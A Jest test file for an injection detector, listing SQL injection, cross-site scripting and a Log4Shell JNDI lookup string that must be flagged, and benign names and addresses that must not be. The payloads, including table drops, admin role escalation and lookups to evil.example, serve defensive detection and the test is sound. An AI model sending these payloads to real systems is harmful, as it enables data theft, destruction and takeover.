import { findInjectionShapes, looksLikeInjection } from './injection-detector';

describe('looksLikeInjection', () => {
  it.each([
    ["x' OR '1'='1"],
    ['" or 1=1 --'],
    ["') OR ('a' LIKE 'a"],
    ['1 OR 1=1'],
    ["admin'--"],
    ["admin' #"],
    ['1 UNION SELECT username, password FROM users'],
    ['1 UNION/**/ALL/**/SELECT null'],
    ['%27%20OR%20%271%27%3D%271'],
    ['1; DROP TABLE users'],
    ["x'; DELETE FROM msmes WHERE 1=1"],
    ["x'; update users set role='admin'"],
    ['1 AND pg_sleep(5)'],
    ["1; WAITFOR DELAY '0:0:5'"],
    ['1 AND 1=(SELECT 1 FROM information_schema.tables)'],
    ['<script>alert(1)</script>'],
    ['</SCRIPT>'],
    ['<img src=x onerror=alert(1)>'],
    ['<svg/onload=alert(1)>'],
    ['<a href="#" onclick = "steal()">'],
    ['<iframe src="https://evil.example">'],
    ['javascript:alert(document.cookie)'],
    ['data:text/html;base64,PHNjcmlwdD4='],
    ['${jndi:ldap://evil.example/a}'],
  ])('should flag %j', (input) => {
    expect(looksLikeInjection(input)).toBe(true);
  });

  it.each([
    ["O'Brien"],
    ["D'Souza & Sons"],
    ['Rock & Roll Traders'],
    ['Union of Textile Workers'],
    ['We select the best suppliers from across India'],
    ['Sales drop in Q3; update plans for Q4'],
    ['Plot "A" #12, MIDC'],
    ['Shop No. 4 -- near the station'],
    ['Revenue grew 20% year on year'],
    ['a < b and c > d'],
    ['x <= 5 or y >= 6'],
    ['We love JavaScript: it is fast'],
    ['Sleep (8 hours) matters'],
    ['Tom and Jerry = classic'],
    ['priya.sharma+orders@example.com'],
    ['+919876543210'],
    ['27AAPFU0939F1ZV'],
    ['Correct-Horse-Battery-Staple-42'],
    ['The "online" store'],
    ['Ctrl+C or Ctrl+V'],
  ])('should not flag %j', (input) => {
    expect(looksLikeInjection(input)).toBe(false);
  });
});

describe('findInjectionShapes', () => {
  it('should report the paths of nested fields that look like injection', () => {
    const body = {
      name: "Acme' OR '1'='1",
      city: 'Pune',
      address: { line1: '<script>x</script>', line2: "O'Brien Lane" },
      tags: ['retail', '1 UNION SELECT 1'],
      employees: 12,
      gst_number: null,
    };

    expect(findInjectionShapes(body)).toEqual(['name', 'address.line1', 'tags.1']);
  });

  it('should report a string at the root as the empty path', () => {
    expect(findInjectionShapes("' or 1=1 --")).toEqual(['']);
  });

  it('should report nothing for clean input or non-strings', () => {
    expect(findInjectionShapes({ name: 'Acme Traders', revenue: 1_000_000, ok: true })).toEqual([]);
    expect(findInjectionShapes(undefined)).toEqual([]);
  });

  it('should stop descending past a bounded depth', () => {
    let deep: Record<string, unknown> = { value: '<script>' };
    for (let i = 0; i < 20; i += 1) deep = { nested: deep };

    expect(findInjectionShapes(deep)).toEqual([]);
  });
});
